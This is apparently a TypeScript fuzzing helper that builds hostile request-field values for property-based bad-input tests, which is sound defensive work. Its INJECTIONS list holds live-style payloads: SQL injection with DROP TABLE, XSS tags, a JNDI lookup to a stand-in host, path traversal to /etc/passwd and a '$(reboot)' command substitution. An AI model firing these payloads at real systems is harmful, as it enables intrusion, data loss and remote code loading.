/**
 * Values that break a request field on purpose, for the bad-input properties: controls and NUL, right-to-left
 * and other unicode, lone surrogates, injection strings, huge strings, ids past `integer`, amounts with 25
 * decimals or an exponent, and values of another type altogether. The ones the probe and the fuzzer found
 * (issue 10) weigh most; the generated ones look further.
 */
import fc from 'fast-check';
import { PositiveDecimal } from '../../src/contract/common.ts';
import { choicesOf, type Field } from './request-fields.ts';

/** What a form or a client library passes on unescaped when it should not: SQL, markup, lookups, paths. */
export const INJECTIONS = [
  "' OR 1=1 --",
  "'; DROP TABLE users; --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the lookup is the payload, sent as it is.
  '${jndi:ldap://example.test/a}',
  '{{7*7}}',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '$(reboot)',
  '{"$gt":""}',
] as const;

export const text = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      '\u0000',
      'name\u0000',
      '\u001b[31mred\u001b[0m',
      'line\r\nbreak',
      '\u0085',
      '\u202eevil.exe',
      'مرحبا بالعالم',
      'שלום עולם',
      'Nguyễn Văn An',
      '\ud800',
      '😀'.repeat(60),
      '',
      ' ',
    ),
  },
  { weight: 2, arbitrary: fc.constantFrom(...INJECTIONS) },
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.string({ minLength: 1, maxLength: 40 }),
  fc.string({ minLength: 2_000, maxLength: 20_000 }),
);

export const integer = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom(2147483648, -1, 0, 1.5, Number.MAX_SAFE_INTEGER + 2, 1e308, 1) },
  { weight: 2, arbitrary: fc.constantFrom('2147483648', '0x10', '1e3', '+1', ' 1', '01', '99999999999999999999999') },
  fc.integer(),
  fc.double(),
);

/** Exponents, signs, zero and negatives, hex, and decimals of up to 25 digits after the point. */
export const amount = fc.oneof(
  {
    weight: 2,
    arbitrary: fc.constantFrom('1e5', '1E+5', '0', '-1', '-0.01', '0x10', 'Infinity', 'NaN', ' 1', '100000', '1,5'),
  },
  fc
    .tuple(
      fc.bigInt({ min: -(10n ** 22n), max: 10n ** 22n }),
      fc.string({ unit: fc.constantFrom(...'0123456789'), minLength: 21, maxLength: 25 }),
    )
    .map(([whole, fraction]) => `${whole}.${fraction}`),
  fc.double().map(String),
);

export const wrongType = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.array(fc.integer(), { maxLength: 3 }),
  fc.object(),
);

/** A value for one field: mostly of its own kind, hostile or not, sometimes of another type altogether. */
export function hostileValueFor(field: Field): fc.Arbitrary<unknown> {
  const own = (() => {
    if (field.schema === PositiveDecimal) return amount;
    if (field.kind === 'text') return text;
    if (field.kind === 'integer') return integer;
    if (field.kind === 'choice') return fc.oneof(fc.constantFrom(...choicesOf(field)), text);
    return fc.oneof(fc.boolean(), text);
  })();
  return fc.oneof({ weight: 4, arbitrary: own }, { weight: 1, arbitrary: wrongType });
}
